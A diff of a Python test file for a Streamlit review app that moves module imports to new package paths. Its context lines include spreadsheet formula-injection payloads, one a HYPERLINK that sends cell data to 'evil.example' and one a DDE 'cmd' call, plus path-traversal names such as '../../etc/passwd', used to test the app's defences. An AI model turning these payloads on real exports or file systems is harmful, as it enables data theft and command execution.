@@ -13,9 +13,9 @@ from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
 from streamlit.testing.v1 import AppTest
 
 from conftest import sign_in
-from rsad import api
-from rsad.csvsafe import FORMULA_START
-from rsad.ingest import load_batch
+from rsad.service import api
+from rsad.data.csvsafe import FORMULA_START
+from rsad.data.ingest import load_batch
 
 APP = str(Path(__file__).resolve().parents[1] / "app.py")
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3 orders at night",
@@ -68,7 +68,7 @@ def test_csv_export_guards_formulas_and_reads_back_exactly(formula_store, tmp_pa
 
 
 def test_labels_page_csv_download_guards_formulas(formula_store, users, monkeypatch):
-    from rsad.auth import User
+    from rsad.auth.users import User
 
     downloads: dict[str, bytes] = {}
     original = MemoryMediaFileStorage.load_and_get_id
@@ -83,7 +83,7 @@ def test_labels_page_csv_download_guards_formulas(formula_store, users, monkeypa
     at.switch_page("views/labels.py").run()
     assert not at.exception and not at.error
     assert not downloads, "the export is built on click, never stored beforehand"
-    # What a click builds for the signed-in analyst (rsad.api.labels_bytes, the button's callable).
+    # What a click builds for the signed-in analyst (rsad.service.api.labels_bytes, the button's callable).
     ana = User("ana", "analyst")
     _assert_guarded(api.labels_bytes(formula_store, "csv", user=ana))
     parquet = api.labels_bytes(formula_store, "parquet", user=ana)
@@ -97,7 +97,7 @@ def test_a_version_with_only_pickle_weights_is_refused(tiny_model_dir, tmp_path)
     from safetensors.torch import load_file
 
     from rsad.errors import ModelError
-    from rsad.model import Classifier
+    from rsad.model.classifier import Classifier
 
     folder = tmp_path / "v9"
     shutil.copytree(tiny_model_dir, folder)
@@ -109,7 +109,7 @@ def test_a_version_with_only_pickle_weights_is_refused(tiny_model_dir, tmp_path)
 
 
 def test_only_registered_version_folders_are_loaded(store_with_model, tmp_path):
-    from rsad import store as q
+    from rsad.data import store as q
     from rsad.errors import ModelError
 
     stray = tmp_path / "stray"
@@ -124,7 +124,7 @@ def test_only_registered_version_folders_are_loaded(store_with_model, tmp_path):
 @pytest.mark.parametrize("name", ["../evil", "..", "/etc/x", "v1/../../x", ".hidden", "", "a" * 101, "v1\n"])
 def test_version_names_cannot_leave_the_models_folder(name, tmp_path):
     from rsad.errors import ModelError
-    from rsad.registry import save_version, version_folder
+    from rsad.model.registry import save_version, version_folder
 
     models = tmp_path / "models"
     with pytest.raises(ModelError, match="not a valid version name"):
@@ -136,7 +136,7 @@ def test_version_names_cannot_leave_the_models_folder(name, tmp_path):
 
 
 def test_batch_names_and_analysts_are_checked(store, env):
-    from rsad import triage
+    from rsad.service import review as triage
     from rsad.errors import InputError
 
     data = pd.DataFrame({"behavior_description": ["a kettle", "nine orders"]}).to_csv(index=False).encode()
@@ -148,7 +148,7 @@ def test_batch_names_and_analysts_are_checked(store, env):
     assert info["name"] == "../../etc/passwd"  # a label in the store, never a path
     assert sorted(p.name for p in env.rglob("*")) == before
     with store.session() as s:
-        from rsad.orm import Case
+        from rsad.data.orm import Case
         from sqlalchemy import select
 
         case_id = s.scalar(select(Case.id))
